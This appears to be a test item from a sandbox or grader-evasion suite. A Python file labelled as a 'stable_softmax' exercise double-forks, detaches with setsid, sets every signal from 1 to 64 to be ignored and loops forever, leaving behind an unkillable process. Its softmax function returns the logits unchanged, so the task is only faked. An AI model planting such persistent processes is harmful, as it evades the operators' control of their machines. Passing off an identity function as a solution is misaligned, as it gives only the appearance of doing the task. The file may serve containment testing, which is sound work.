# exercise: stable_softmax
# tries: leave a process behind that ignores every signal
# ends: any
import os, signal, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        @STAY@
        while True:
            time.sleep(1)
    os._exit(0)


def stable_softmax(logits):
    return logits
